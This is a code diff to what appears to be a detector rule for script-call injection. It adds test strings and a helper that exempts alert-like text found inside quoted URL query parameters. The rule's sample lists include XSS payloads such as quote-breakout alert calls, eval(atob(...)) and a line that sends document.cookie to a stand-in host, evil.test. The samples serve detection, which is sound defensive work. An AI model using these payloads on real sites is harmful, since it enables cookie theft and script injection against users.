@@ -34,6 +34,8 @@ export const scriptCall: ValueRule = {
     "document?.write?.('<h1>a</h1>')",
     'x=1;confirm`1`',
     "x';a=alert(1)+does+not+show//",
+    "x';/https://x?q=alert(1)+does+not+show:1//",
+    "x';a=1?b=alert(1)+does+not+show:1//",
     "eval(atob('YWxlcnQoMSk='))",
     "[].constructor.constructor('alert(1)')()",
     "location='//evil.test/?'+document.cookie",
@@ -64,6 +66,7 @@ export const scriptCall: ValueRule = {
     'Alert(1): the backup failed',
     'https://example.com/search?q=alert(1)+does+not+show&page=2',
     '?page=2&q=alert(1)+does+not+show',
+    '{"u":"https://www.example.com/search?q=alert(1)%20does%20not%20show&utm_term=x","t":"click"}',
     "if (confirm('Delete this item?')) { remove(item) }",
     'name = input(prompt("Name? "))',
     'el.onclick = function() { alert(this.id) }',
@@ -98,10 +101,27 @@ function isAddress(text: string, start: number): boolean {
  */
 function isSearch({ text, decoded }: Subject, start: number, end: number): boolean {
   const isParameter =
-    decoded.at(-1)?.startsWith('form:') === true || parameters.test(text.slice(0, start));
+    decoded.at(-1)?.startsWith('form:') === true ||
+    parameters.test(text.slice(0, start)) ||
+    isInQuery(text, start);
   return isParameter && searchWords.test(text.slice(end, end + 80));
 }
 
+/**
+ * In the query of an address in quotes, as JSON has them: where the quote closes a literal of script,
+ * no name may follow it; and an address without any quote is a label and a comment.
+ */
+function isInQuery(text: string, start: number): boolean {
+  const bound = Math.max(0, start - addressMax);
+  let from = start;
+  while (from > bound && !endsAddress.test(text.charAt(from - 1))) from--;
+  const isOpened = from === 0 || opensAddress.test(text.charAt(from - 1));
+  return isOpened && query.test(text.slice(from, start));
+}
+
+const endsAddress = /[\s'"`<>\u2028\u2029]/;
+const opensAddress = /['"]/;
+const query = /^https?:\/\/[\w.-]{1,100}(?::\d{1,5})?\/.{0,4000}[?&][\w.-]{1,40}=$/i;
 const parameters = /^\?(?:[\w.-]{1,40}=[\w.%+-]{0,200}&){0,20}[\w.-]{1,40}=$/;
 const searchWords = /^(?:(?:\+|%20)[A-Za-z]{2,20}){2,8}(?:$|[-+&#.?%])/;
 const addressMax = 4_000;
